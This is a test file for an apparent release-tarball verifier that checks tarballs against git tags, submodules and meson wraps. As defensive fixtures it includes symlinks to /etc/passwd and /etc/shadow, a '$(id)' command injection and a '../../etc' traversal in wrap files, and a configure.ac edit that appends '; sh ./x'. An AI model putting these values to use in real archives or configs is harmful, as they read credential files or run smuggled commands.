    repository(repo, { 'main.c': 'int main(void) { return 0; }\n' }, { libevent: pinned })
    git(repo, 'tag', 'v3.0')
    const stub = '/* Automatically generated from test/regress.rpc */\nint msg_new(void) { return 0; }\n'
    const tarball = releaseTarball(root, 'foo-3.0', { 'main.c': 'int main(void) { return 0; }\n', 'libevent/test/regress.gen.c': stub, 'libevent/test/other.gen.c': stub })
    const report = await verify({ artifact: tarball, source: repo, ref: 'v3.0', submodules: [parseSubmoduleOption(`libevent=${lib}`)], cacheDir: join(root, 'cache'), systemCatalog: false })
    expect(report.explained.find((e) => e.path === 'libevent/test/regress.gen.c')?.how).toMatch(/test\/include\.am.*of the submodule libevent at/)
    expect(report.findings.some((f) => f.path === 'libevent/test/regress.gen.c' && f.severity !== 'info')).toBe(false)
    expect(report.findings.find((f) => f.path === 'libevent/test/other.gen.c')?.severity).toBe('high')
  })
})

describe('verify: links that point outside the tree', () => {
  it('takes a link the tag has with the same target for upstream\u2019s own, and any other for an escape', async () => {
    const root = mkdtempSync(join(tmpdir(), 'sl-tag-link-'))
    const repo = join(root, 'repo')
    mkdirSync(join(repo, 'proto'), { recursive: true })
    symlinkSync('/usr/include/google/protobuf/descriptor.proto', join(repo, 'proto/descriptor.proto'))
    repository(repo, { 'main.c': 'int main(void) { return 0; }\n' })
    git(repo, 'tag', 'v6.0')
    const release = (links: Record<string, string>) => {
      const top = join(root, `rel-${Object.keys(links).length}-${Object.values(links).join('').length}`, 'foo-6.0')
      writeTree(top, { 'main.c': 'int main(void) { return 0; }\n' })
      for (const [path, target] of Object.entries(links)) {
        mkdirSync(dirname(join(top, path)), { recursive: true })
        symlinkSync(target, join(top, path))
      }
      const tarball = `${dirname(top)}.tar.gz`
      execFileSync('tar', ['-czf', tarball, '-C', dirname(top), 'foo-6.0'])
      return verify({ artifact: tarball, source: repo, ref: 'v6.0', cacheDir: join(root, 'cache'), systemCatalog: false })
    }
    const escapes = (report: Awaited<ReturnType<typeof release>>) => report.findings.filter((f) => f.ruleId === 'archive/link-escape').map((f) => [f.path, f.severity])

    const same = await release({ 'proto/descriptor.proto': '/usr/include/google/protobuf/descriptor.proto' })
    expect(escapes(same)).toEqual([['proto/descriptor.proto', 'low']])
    expect(same.findings.find((f) => f.ruleId === 'archive/link-escape')?.message).toMatch(/the source tag has the same link/)
    // another target at the same path, or a link the tag does not have, escapes
    expect(escapes(await release({ 'proto/descriptor.proto': '/etc/passwd' }))).toEqual([['proto/descriptor.proto', 'critical']])
    expect(escapes(await release({ 'proto/descriptor.proto': '/usr/include/google/protobuf/descriptor.proto', 'proto/shadow': '/etc/shadow' }))).toContainEqual(['proto/shadow', 'critical'])
  })
})

describe('verify: what a pin names but nobody compared', () => {
  const notCompared = (report: { findings: readonly { ruleId: string; path?: string; severity: string; message: string }[] }) =>
    report.findings.filter((f) => f.ruleId === 'verify/not-compared').map((f) => [f.path, f.severity])

  it('is one finding per pin, low for a commit id, with how many files the build compiles or runs and how to compare them', async () => {
    const root = mkdtempSync(join(tmpdir(), 'sl-not-compared-'))
    const repo = join(root, 'repo')
    repository(repo, { 'main.c': 'int main(void) { return 0; }\n' }, { 'vendor/zlib': '1234567890abcdef1234567890abcdef12345678', 'doc/theme': 'abcdefabcdefabcdefabcdefabcdefabcdefabcd' })
    git(repo, 'tag', 'v1.0')
    const tarball = releaseTarball(root, 'foo-1.0', {
      'main.c': 'int main(void) { return 0; }\n',
      'vendor/zlib/inflate.c': 'int inflate(void) { return 0; }\n',
      'vendor/zlib/README': 'zlib\n',
      'doc/theme/style.css': 'body { color: black; }\n',
    })
    const report = await verify({ artifact: tarball, source: repo, ref: 'v1.0', cacheDir: join(root, 'cache'), systemCatalog: false })
    expect(notCompared(report).sort()).toEqual([['doc/theme', 'low'], ['vendor/zlib', 'low']])
    expect(report.verdict).toBe('pass')
    const zlib = report.findings.find((f) => f.path === 'vendor/zlib')
    expect(zlib?.message).toMatch(/2 file\(s\) from the submodule vendor\/zlib at 1234567890ab were not compared \(1 compiled or run by the build; .*--submodule vendor\/zlib=REPO/)
  })

  it('reads the submodules of a given submodule in turn, given outermost first whatever the order of the options', async () => {
    const root = mkdtempSync(join(tmpdir(), 'sl-nested-'))
    const inner = join(root, 'yajl')
    repository(inner, { 'src/yajl.c': 'int yajl(void) { return 0; }\n' })
    const outer = join(root, 'ocispec')
    repository(outer, { 'src/spec.c': 'int spec(void) { return 0; }\n' }, { yajl: git(inner, 'rev-parse', 'HEAD') })
    const repo = join(root, 'repo')
    repository(repo, { 'main.c': 'int main(void) { return 0; }\n' }, { libocispec: git(outer, 'rev-parse', 'HEAD') })
    git(repo, 'tag', 'v2.0')
    const files = { 'main.c': 'int main(void) { return 0; }\n', 'libocispec/src/spec.c': 'int spec(void) { return 0; }\n', 'libocispec/yajl/src/yajl.c': 'int yajl(void) { return 0; }\n' }
    const tarball = releaseTarball(root, 'foo-2.0', files)
    const run = (submodules: { path: string; source: string }[], at = tarball) => verify({ artifact: at, source: repo, ref: 'v2.0', cacheDir: join(root, 'cache'), systemCatalog: false, submodules })

    const outerOnly = await run([{ path: 'libocispec', source: outer }])
    expect(outerOnly.explained.find((e) => e.path === 'libocispec/src/spec.c')?.reproduced).toBe(true)
    expect(notCompared(outerOnly)).toEqual([['libocispec/yajl', 'low']])
    expect(outerOnly.facts.find((f) => f.label === 'submodules')?.value).toMatch(/libocispec\/yajl at .*not compared: give its repository with --submodule libocispec\/yajl=REPO/)

    const both = await run([{ path: 'libocispec/yajl', source: inner }, { path: 'libocispec', source: outer }])
    expect(both.verdict).toBe('pass')
    expect(both.explained.find((e) => e.path === 'libocispec/yajl/src/yajl.c')?.reproduced).toBe(true)
    // a changed file of the inner submodule is a difference, not a copy
    const changed = releaseTarball(join(root, 'changed'), 'foo-2.0', { ...files, 'libocispec/yajl/src/yajl.c': 'int yajl(void) { return 1; }\n' })
    const report = await run([{ path: 'libocispec/yajl', source: inner }, { path: 'libocispec', source: outer }], changed)
    expect(report.findings.some((f) => f.path === 'libocispec/yajl/src/yajl.c' && f.severity === 'high')).toBe(true)
  })

  it('takes the subprojects a meson wrap names for pins, and a branch or tag name for any version that repository had', async () => {
    const root = mkdtempSync(join(tmpdir(), 'sl-wrap-'))
    const dep = join(root, 'c-list')
    repository(dep, { 'src/c-list.h': '#define C_LIST 1\n' })
    // the branch the wrap names has moved on since the release
    writeFileSync(join(dep, 'src/c-list.h'), '#define C_LIST 2\n')
    git(dep, 'commit', '-q', '-am', 'later')
    const repo = join(root, 'repo')
    repository(repo, { 'meson.build': "project('foo', 'c')\n", 'subprojects/libclist-3.wrap': '[wrap-git]\ndirectory = libclist-3\nurl = https://example.invalid/c-list.git\nrevision = HEAD\n' })
    git(repo, 'tag', 'v3.0')
    const tagged = { 'meson.build': "project('foo', 'c')\n", 'subprojects/libclist-3.wrap': '[wrap-git]\ndirectory = libclist-3\nurl = https://example.invalid/c-list.git\nrevision = HEAD\n' }
    const tarball = releaseTarball(root, 'foo-3.0', { ...tagged, 'subprojects/libclist-3/src/c-list.h': '#define C_LIST 1\n' })
    const run = (submodules: { path: string; source: string }[], at = tarball) => verify({ artifact: at, source: repo, ref: 'v3.0', cacheDir: join(root, 'cache'), systemCatalog: false, submodules })

    const alone = await run([])
    // a branch or tag name fixes no commit: the files are code nobody can say are the subproject's
    expect(notCompared(alone)).toEqual([['subprojects/libclist-3', 'medium']])
    expect(alone.verdict).toBe('review')
    expect(alone.findings.find((f) => f.ruleId === 'verify/not-compared')?.message).toMatch(/meson wrap libclist-3\.wrap of https:\/\/example\.invalid\/c-list\.git, a branch or tag name/)

    const given = await run([{ path: 'subprojects/libclist-3', source: dep }])
    expect(given.verdict).toBe('pass')
    expect(given.explained.find((e) => e.path === 'subprojects/libclist-3/src/c-list.h')?.how).toMatch(/as of [0-9a-f]{12} \(\d{4}-\d{2}-\d{2}\) in /)
    // the subproject's history is kept for the next run, which reads it from there
    expect(readdirSync(join(root, 'cache', 'path-versions'))).toHaveLength(1)
    const forged = releaseTarball(join(root, 'forged'), 'foo-3.0', { ...tagged, 'subprojects/libclist-3/src/c-list.h': '#define C_LIST 3\n' })
    const report = await run([{ path: 'subprojects/libclist-3', source: dep }], forged)
    expect(report.findings.some((f) => f.path === 'subprojects/libclist-3/src/c-list.h' && f.severity === 'high')).toBe(true)
  })

  it('reads a wrap-git section, its directory, and no revision that is not a plain name', () => {
    expect(parseWrap('[wrap-git]\nurl = https://x.invalid/a.git\nrevision = v1\n')).toEqual({ url: 'https://x.invalid/a.git', revision: 'v1' })
    expect(parseWrap('[wrap-git]\ndirectory=a-1\nurl=https://x.invalid/a.git\nrevision=0123456789abcdef0123456789abcdef01234567\n[provide]\ndependency_names = a\n')).toMatchObject({ directory: 'a-1', revision: '0123456789abcdef0123456789abcdef01234567' })
    expect(parseWrap('[wrap-file]\ndirectory = a-1\nsource_url = https://x.invalid/a.tar.gz\n')).toBeUndefined()
    expect(parseWrap('[wrap-git]\nurl = https://x.invalid/a.git\nrevision = $(id)\n')).toBeUndefined()
    expect(parseWrap('[wrap-git]\nurl = https://x.invalid/a.git\nrevision = v1\ndirectory = ../../etc\n')).toBeUndefined()
  })
})

describe('verify: a submodule repository that lacks some of its blobs (a partial clone)', () => {
  it('compares with what it holds and judges a copy it cannot read like any other file, without failing', async () => {
    const root = mkdtempSync(join(tmpdir(), 'sl-partial-'))
    const lib = join(root, 'portlib')
    const notice = '/* under the terms of the GNU Lesser General Public License; either version 2.1 of the License */\n'
    repository(lib, { 'lib/a.c': `${notice}int a(void) { return 0; }\n`, 'lib/b.c': `${notice}int b(void) { return 0; }\n` })
    // the blob stays listed in the tree but its object is gone, as a blob-filtered clone leaves it
    const missing = git(lib, 'rev-parse', 'HEAD:lib/a.c')
    rmSync(join(lib, '.git', 'objects', missing.slice(0, 2), missing.slice(2)))
    const repo = join(root, 'repo')
    repository(repo, { 'main.c': 'int main(void) { return 0; }\n' }, { portlib: git(lib, 'rev-parse', 'HEAD') })
    git(repo, 'tag', 'v1.0')
    const gpl = (text: string) => text.replace('GNU Lesser General', 'GNU General').replace('version 2.1 of', 'version 3 of')
    const tarball = releaseTarball(root, 'foo-1.0', { 'main.c': 'int main(void) { return 0; }\n', 'lib/a.c': gpl(`${notice}int a(void) { return 0; }\n`), 'lib/b.c': gpl(`${notice}int b(void) { return 0; }\n`) })
    const report = await verify({ artifact: tarball, source: repo, ref: 'v1.0', cacheDir: join(root, 'cache'), systemCatalog: false, submodules: [{ path: 'portlib', source: lib }] })
    expect(report.explained.find((e) => e.path === 'lib/b.c')?.how).toMatch(/portlib\/lib\/b\.c of the submodule .* as gnulib-tool copies it/)
    expect(report.findings.some((f) => f.path === 'lib/a.c' && f.severity === 'high')).toBe(true)
  })
})

describe('verify: files the tag marks export-subst', () => {
  it('takes the committed bytes (a release made from a checkout) and the expanded ones (git archive) for the tag\u2019s, and nothing else', async () => {
    const root = mkdtempSync(join(tmpdir(), 'sl-export-subst-'))
    const repo = join(root, 'repo')
    const committed = "AC_INIT([p], [1])\nSOURCE_EPOCH='$Format:%ct$' # rewritten by git archive\n"
    repository(repo, { 'configure.ac': committed, '.gitattributes': 'configure.ac export-subst\n' })
    git(repo, 'tag', 'v1.0')
    const run = async (text: string, name: string) =>
      verify({ artifact: releaseTarball(join(root, name), 'p-1.0', { 'configure.ac': text, '.gitattributes': 'configure.ac export-subst\n' }), source: repo, ref: 'v1.0', cacheDir: join(root, 'cache'), systemCatalog: false })
    const fromCheckout = await run(committed, 'checkout')
    expect(fromCheckout.findings.filter((f) => f.path === 'configure.ac')).toEqual([])
    expect(fromCheckout.summary.identical).toBe(2)
    const epoch = git(repo, 'log', '-1', '--format=%ct', 'v1.0')
    const archived = await run(committed.replace('$Format:%ct$', epoch), 'archived')
    expect(archived.summary.identical).toBe(2)
    const edited = await run(committed.replace("'$Format:%ct$'", "'$Format:%ct$'; sh ./x"), 'edited')
    expect(edited.findings.some((f) => f.path === 'configure.ac' && f.severity === 'high')).toBe(true)
  })
})
